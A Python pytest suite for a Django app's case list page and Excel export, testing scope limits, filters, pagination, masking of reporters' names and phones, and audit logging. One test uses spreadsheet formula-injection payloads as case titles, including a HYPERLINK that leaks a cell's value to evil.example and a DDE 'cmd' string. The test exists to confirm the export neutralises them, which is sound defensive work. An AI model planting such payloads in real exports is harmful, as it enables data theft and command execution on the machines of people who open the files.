"""The case list page (/cases/) and its Excel export (/cases/export.xlsx): filters narrow the
list, each person sees only their area, a refused filter is a 400 by its field, every order
pages through every case exactly once, the page costs the same queries for any number of
cases, and the export masks personal data, never lets a cell run as a formula and is audited.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime, timedelta
from itertools import cycle

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from tests.cases.loop_helpers import (
    GRID_ENTRY_CATEGORY,
    IN_GRID_A,
    IN_GRID_B,
    IN_GRID_C,
    RESIDENT,
    drive_to,
    file_case,
)
from wangge.cases.exports import AUDIT_ACTION, export_cases
from wangge.cases.models import Case
from wangge.cases.queries import CaseFilters
from wangge.cases.views import lists
from wangge.cases.workflow import CaseState
from wangge.core import clock
from wangge.core.models import AuditEntry

LIST = "/cases/"
EXPORT = "/cases/export.xlsx"
PHONE = "13812345678"
CARD_LINK = re.compile(r'class="case-link" href="/cases/([^/"]+)/"')


def case_numbers(html: str) -> list[str]:
    return CARD_LINK.findall(html)


def shown(client, user, **params) -> list[str]:
    client.force_login(user)
    response = client.get(LIST, params)
    assert response.status_code == 200, response.content.decode()[:800]
    return case_numbers(response.content.decode())


def workbook_of(response):
    assert response.status_code == 200, response.content.decode()[:800]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    body = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(body)), body


def sheet_rows(workbook) -> list[tuple]:
    return list(workbook.worksheets[0].iter_rows(values_only=True))


def at(year: int, month: int, day: int, hour: int = 10) -> datetime:
    return timezone.make_aware(datetime(year, month, day, hour))


# --- the way in -------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [LIST, EXPORT])
def test_the_list_and_the_export_need_a_login(client, cast, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_a_dispatcher_sees_every_case_of_the_district_newest_first(client, cast):
    # Given cases in three grids, one after another
    with clock.frozen_at(at(2025, 3, 3)):
        in_a = file_case(RESIDENT, at=IN_GRID_A)
    with clock.frozen_at(at(2025, 3, 4)):
        in_b = file_case(RESIDENT, at=IN_GRID_B)
    with clock.frozen_at(at(2025, 3, 5)):
        in_c = file_case(RESIDENT, at=IN_GRID_C)

    # When the district's dispatcher opens the list
    client.force_login(cast.dispatcher)
    html = client.get(LIST).content.decode()

    # Then every case is there, the newest first, each with its deadline light and time left
    assert case_numbers(html) == [in_c.number, in_b.number, in_a.number]
    assert html.count('class="light light-') == 3
    assert "Overdue by" in html or "working hours left" in html
    assert "3 cases" in html


# --- scope ------------------------------------------------------------------------------------


def test_grid_worker_b_never_sees_the_cases_of_grid_a(client, cast):
    # Given a case in grid A and one in grid B, reported with a phone
    in_a = file_case(RESIDENT, at=IN_GRID_A, title="A 的路灯", reporter_phone=PHONE)
    in_b = file_case(RESIDENT, at=IN_GRID_B, title="B 的路灯")

    # When grid B's worker lists and exports the cases, even asking for grid A by its code
    listed = shown(client, cast.grid_worker_b)
    refused = client.get(LIST, {"unit": cast.tree.grid_a.code})
    workbook, _body = workbook_of(client.get(EXPORT))

    # Then only grid B's case is there, and grid A is not a unit they may name
    assert listed == [in_b.number]
    assert refused.status_code == 400
    numbers = [row[0] for row in sheet_rows(workbook)[1:]]
    assert numbers == [in_b.number]
    assert in_a.number not in numbers
    # And grid A's worker sees grid A's case only
    assert shown(client, cast.grid_worker_a) == [in_a.number]


def test_the_unit_filter_offers_only_the_units_of_the_users_area(client, cast):
    client.force_login(cast.grid_worker_b)
    html = client.get(LIST).content.decode()
    assert f'value="{cast.tree.grid_b.code}"' in html
    assert f'value="{cast.tree.grid_a.code}"' not in html
    assert f'value="{cast.tree.district.code}"' not in html


def test_a_large_area_gets_a_code_field_with_suggestions_instead_of_a_select(
    client, cast, monkeypatch
):
    # Given more units in the dispatcher's area than a select should hold
    monkeypatch.setattr(lists, "UNIT_OPTIONS_MAX", 3)
    in_a = file_case(RESIDENT, at=IN_GRID_A)
    file_case(RESIDENT, at=IN_GRID_C)

    # When the dispatcher opens the list and types grid A's code
    client.force_login(cast.dispatcher)
    html = client.get(LIST, {"unit": cast.tree.grid_a.code}).content.decode()

    # Then the field is a text field suggesting units above grid level, and it filters
    assert 'list="unit-suggestions"' in html
    assert '<datalist id="unit-suggestions">' in html
    assert f'<option value="{cast.tree.town.code}">' in html
    assert f'<option value="{cast.tree.grid_a.code}">' not in html
    assert case_numbers(html) == [in_a.number]


# --- filters ----------------------------------------------------------------------------------


@pytest.fixture
def assorted(cast):
    """Five cases that differ in one way each from the first."""
    with clock.frozen_at(at(2025, 1, 6)):
        old = file_case(RESIDENT, at=IN_GRID_A)  # long overdue by now
    with clock.frozen_at(at(2025, 2, 10)):
        patrol = file_case(cast.grid_worker_a, at=IN_GRID_A, category=GRID_ENTRY_CATEGORY)
    in_c = file_case(RESIDENT, at=IN_GRID_C, title="东成路口积水", address="东成路 8 号")
    dispatched = drive_to(cast, CaseState.DISPATCHED)
    fresh = file_case(RESIDENT, at=IN_GRID_B)
    return {
        "old": old,
        "patrol": patrol,
        "in_c": in_c,
        "dispatched": dispatched,
        "fresh": fresh,
    }


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({}, {"old", "patrol", "in_c", "dispatched", "fresh"}),
        ({"state": "dispatched"}, {"dispatched"}),
        ({"state": ["dispatched", "reported"]}, {"old", "patrol", "in_c", "dispatched", "fresh"}),
        ({"category": "E01"}, {"patrol"}),  # a whole class
        ({"category": GRID_ENTRY_CATEGORY}, {"patrol"}),  # one subcategory
        ({"category": "C0104"}, {"old", "in_c", "dispatched", "fresh"}),
        ({"unit": "440703002000"}, {"in_c"}),  # 白沙街道 and everything below it
        ({"unit": "440703006107002"}, {"fresh"}),  # grid B
        ({"overdue": "yes"}, {"old", "patrol"}),
        ({"overdue": "no"}, {"in_c", "dispatched", "fresh"}),
        ({"reported_from": "2025-01-01", "reported_to": "2025-01-31"}, {"old"}),
        ({"reported_to": "2025-02-10"}, {"old", "patrol"}),
        ({"text": "积水"}, {"in_c"}),
        ({"text": "东成路 8"}, {"in_c"}),
        ({"channel": "grid_patrol"}, {"patrol"}),
        ({"channel": "resident", "overdue": "yes"}, {"old"}),
    ],
)
def test_filters_narrow_the_list(client, cast, assorted, params, expected):
    numbers = shown(client, cast.dispatcher, **params)
    assert sorted(numbers) == sorted(assorted[name].number for name in expected)


def test_a_case_number_finds_that_case(client, cast, assorted):
    number = assorted["patrol"].number
    assert shown(client, cast.dispatcher, text=number) == [number]


# --- refusals ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"state": "lost"}, "state"),
        ({"state": ["reported", "re\x00ported"]}, "state"),
        ({"category": "NOPE"}, "category"),
        ({"category": "C01\x00"}, "category"),
        ({"unit": "999999999999"}, "unit"),
        ({"unit": "4407\x00"}, "unit"),
        ({"overdue": "maybe"}, "overdue"),
        ({"channel": "pigeon"}, "channel"),
        ({"reported_from": "yesterday"}, "reported_from"),
        ({"reported_to": "2025-02-30"}, "reported_to"),
        ({"reported_from": "0001-01-01"}, "reported_from"),
        ({"reported_to": "9999-12-31"}, "reported_to"),
        ({"reported_from": "2025-03-01", "reported_to": "2025-02-01"}, "reported_to"),
        ({"text": "路灯\x00"}, "text"),
        ({"text": "长" * 101}, "text"),
        ({"sort": "sideways"}, "sort"),
        ({"cursor": "not a cursor"}, "cursor"),
        ({"cursor": "\x00"}, "cursor"),
    ],
)
def test_every_bad_filter_is_a_400_with_the_message_by_its_field(client, cast, params, field):
    file_case(RESIDENT, at=IN_GRID_A)
    client.force_login(cast.dispatcher)

    # (The export reads no cursor: it holds every page.)
    for url in (LIST,) if field == "cursor" else (LIST, EXPORT):
        response = client.get(url, params)

        assert response.status_code == 400, (url, response.status_code)
        html = response.content.decode()
        assert f'id="id_{field}_error"' in html
        assert 'role="alert"' in html
        assert case_numbers(html) == []
    assert not AuditEntry.objects.filter(action=AUDIT_ACTION).exists()


def test_a_refused_field_says_why(client, cast):
    client.force_login(cast.dispatcher)
    html = client.get(LIST, {"unit": "999999999999", "reported_from": "soon"}).content.decode()
    unit_error = re.search(r'id="id_unit_error">(.*?)</p>', html, re.S).group(1)
    date_error = re.search(r'id="id_reported_from_error">(.*?)</p>', html, re.S).group(1)
    assert "999999999999" in unit_error
    assert "in your area" in unit_error
    assert "valid date" in date_error
    # The refused input points at its message
    assert 'aria-describedby="id_unit_helptext id_unit_error"' in html


# --- pagination -------------------------------------------------------------------------------


@pytest.fixture
def many_cases(cast) -> list[Case]:
    """45 cases, several reported at the same moment and so due at the same moment (ties the
    keyset must break by id), in grids A and B."""
    cases = []
    places = cycle([IN_GRID_A, IN_GRID_B])
    start = at(2025, 4, 1, 9)
    for index in range(45):
        with clock.frozen_at(start + timedelta(hours=index // 4)):
            cases.append(file_case(RESIDENT, at=next(places)))
    return cases


@pytest.mark.parametrize("sort", ["", "newest", "oldest", "deadline"])
def test_the_pages_walk_every_case_exactly_once_in_order(client, cast, many_cases, sort):
    client.force_login(cast.dispatcher)
    url, params = LIST, {"sort": sort} if sort else {}
    seen: list[str] = []
    pages = 0
    while url:
        response = client.get(url, params)
        assert response.status_code == 200
        html = response.content.decode()
        numbers = case_numbers(html)
        assert len(numbers) <= lists.PAGE_SIZE
        seen += numbers
        pages += 1
        link = re.search(r'class="button next" rel="next" href="([^"]+)"', html)
        url, params = (link.group(1).replace("&amp;", "&"), None) if link else (None, None)
        assert pages <= 10

    assert pages == 3
    assert len(seen) == len(set(seen)) == 45
    stored = Case.objects.in_bulk([c.pk for c in many_cases])
    by_number = {case.number: case for case in stored.values()}
    keys = {
        "": lambda c: (-c.reported_at.timestamp(), -c.pk),
        "newest": lambda c: (-c.reported_at.timestamp(), -c.pk),
        "oldest": lambda c: (c.reported_at.timestamp(), c.pk),
        "deadline": lambda c: (c.due_at.timestamp(), c.pk),
    }
    assert seen == [c.number for c in sorted(by_number.values(), key=keys[sort])]


def test_the_next_page_keeps_the_filters(client, cast, many_cases):
    client.force_login(cast.dispatcher)
    html = client.get(LIST, {"unit": cast.tree.grid_a.code, "sort": "oldest"}).content.decode()
    link = re.search(r'rel="next" href="([^"]+)"', html).group(1).replace("&amp;", "&")
    assert f"unit={cast.tree.grid_a.code}" in link
    assert "sort=oldest" in link
    second = case_numbers(client.get(link).content.decode())
    assert len(second) == 23 - lists.PAGE_SIZE
    grid_a_numbers = {c.number for c in many_cases if c.area_id == cast.tree.grid_a.pk}
    assert set(second) <= grid_a_numbers


def test_the_list_takes_the_same_queries_whatever_the_number_of_cases(
    client, cast, django_assert_max_num_queries
):
    client.force_login(cast.dispatcher)
    for place in (IN_GRID_A, IN_GRID_B):
        file_case(RESIDENT, at=place)
    sorts = ("newest", "oldest", "deadline")
    few = {}
    for sort in sorts:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(LIST, {"sort": sort}).status_code == 200
        few[sort] = len(queries)
    dispatched = [drive_to(cast, CaseState.DISPATCHED) for _ in range(3)]
    for index in range(25):
        file_case(cast.grid_worker_a, at=IN_GRID_A, reporter_phone=f"1380000{index:04d}")

    for sort in sorts:
        with django_assert_max_num_queries(few[sort]):
            html = client.get(LIST, {"sort": sort}).content.decode()
        assert len(case_numbers(html)) == lists.PAGE_SIZE
    # The session, the user, the menu's and the scope's memberships, the categories, the units,
    # whether the user's units span the whole tree, the page (the deadline order: its ids, then
    # its cases) and the bounded count.
    assert few["newest"] <= 11
    assert dispatched  # handled cases show their department on the card
    assert "城管局" in client.get(LIST, {"state": "dispatched"}).content.decode()


# --- htmx ---------------------------------------------------------------------------------------


def test_htmx_gets_only_the_search_area_and_a_400_too(client, cast):
    file_case(RESIDENT, at=IN_GRID_A)
    client.force_login(cast.dispatcher)

    partial = client.get(LIST, HTTP_HX_REQUEST="true")
    refused = client.get(LIST, {"state": "lost"}, HTTP_HX_REQUEST="true")
    restored = client.get(LIST, HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")

    assert partial.status_code == 200
    assert partial.content.decode().lstrip().startswith('<div class="case-search"')
    assert "<html" not in partial.content.decode()
    assert "HX-Request" in partial["Vary"]
    assert refused.status_code == 400
    assert 'id="id_state_error"' in refused.content.decode()
    assert "<html" in restored.content.decode()


def test_the_page_has_no_inline_script_and_labels_every_field(client, cast):
    client.force_login(cast.dispatcher)
    html = client.get(LIST).content.decode()
    assert not re.search(r"<script(?![^>]*\ssrc=)[^>]*>", html)
    for name in (
        "text",
        "sort",
        "category",
        "unit",
        "overdue",
        "channel",
        "reported_from",
        "reported_to",
    ):
        assert f'<label for="id_{name}">' in html, name
    assert "<legend>State</legend>" in html
    assert html.count('type="checkbox" name="state"') == len(CaseState)


# --- export -----------------------------------------------------------------------------------


def test_the_export_masks_the_reporter_and_records_who_exported_what(client, cast):
    # Given a case reported with a name and a phone, and one elsewhere
    case = file_case(
        RESIDENT, at=IN_GRID_A, reporter_name="张三丰", reporter_phone=PHONE, title="路灯不亮"
    )
    file_case(RESIDENT, at=IN_GRID_C)

    # When the dispatcher exports grid A's reported cases
    client.force_login(cast.dispatcher)
    response = client.get(EXPORT, {"unit": cast.tree.grid_a.code, "state": "reported"})
    workbook, body = workbook_of(response)

    # Then the sheet has a header and the one case, with the reporter masked
    assert 'filename="cases-' in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    header, *rows = sheet_rows(workbook)
    assert header == (
        "Case number",
        "Title",
        "Category",
        "Grid or unit",
        "Handling unit",
        "State",
        "Channel",
        "Reported at",
        "Due at",
        "Overdue",
        "Reporter",
        "Reporter's phone",
        "Rating",
    )
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["Case number"] == case.number
    assert row["Title"] == "路灯不亮"
    assert row["Category"] == "路灯"
    assert row["Grid or unit"] == "石冲社区第一网格"
    assert row["State"] == "Reported"
    assert row["Channel"] == "Resident report"
    assert row["Reporter"] == "张**"
    assert row["Reporter's phone"] == "138****5678"
    assert row["Overdue"] == "No"
    local = timezone.localtime(Case.objects.get(pk=case.pk).reported_at)
    # Local wall-clock time (Excel knows no time zones; it keeps about a millisecond)
    assert abs(row["Reported at"] - local.replace(tzinfo=None)) < timedelta(milliseconds=2)
    # and the full phone and name are nowhere in the file
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        everything = "".join(archive.read(name).decode() for name in archive.namelist())
    assert PHONE not in everything
    assert "张三丰" not in everything

    # And the audit log says who exported which filters and how many rows
    entry = AuditEntry.objects.get(action=AUDIT_ACTION)
    assert entry.actor == cast.dispatcher
    assert entry.data["rows"] == 1
    assert entry.data["capped"] is False
    assert entry.data["filters"] == {"state": ["reported"], "unit": cast.tree.grid_a.code}


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
    ],
)
def test_a_title_that_looks_like_a_formula_is_exported_as_plain_text(client, cast, title):
    file_case(RESIDENT, at=IN_GRID_A, title=title)

    client.force_login(cast.dispatcher)
    workbook, body = workbook_of(client.get(EXPORT))

    cell = workbook.worksheets[0]["B2"]
    assert cell.value == title
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml


def test_an_export_stops_at_its_maximum_and_says_so(cast):
    for _ in range(3):
        file_case(RESIDENT, at=IN_GRID_A)

    export = export_cases(cast.dispatcher, CaseFilters(), max_rows=2)

    assert (export.rows, export.is_capped) == (2, True)
    workbook = load_workbook(export.file)
    export.file.close()
    rows = sheet_rows(workbook)
    assert len([row for row in rows[1:] if row and row[0] and row[0].startswith("20")]) == 2
    assert "Only the first 2 cases" in rows[-1][0]
    about = dict(workbook.worksheets[1].iter_rows(values_only=True))
    assert about["Cases"] == 2
    assert "Only the first 2 cases" in about["Note"]
    entry = AuditEntry.objects.get(action=AUDIT_ACTION)
    assert (entry.data["rows"], entry.data["capped"]) == (2, True)


def test_the_export_follows_the_lists_filters_and_order(client, cast, assorted):
    client.force_login(cast.dispatcher)
    workbook, _body = workbook_of(client.get(EXPORT, {"overdue": "yes", "sort": "oldest"}))
    numbers = [row[0] for row in sheet_rows(workbook)[1:]]
    assert numbers == [assorted["old"].number, assorted["patrol"].number]
    assert shown(client, cast.dispatcher, overdue="yes", sort="oldest") == numbers
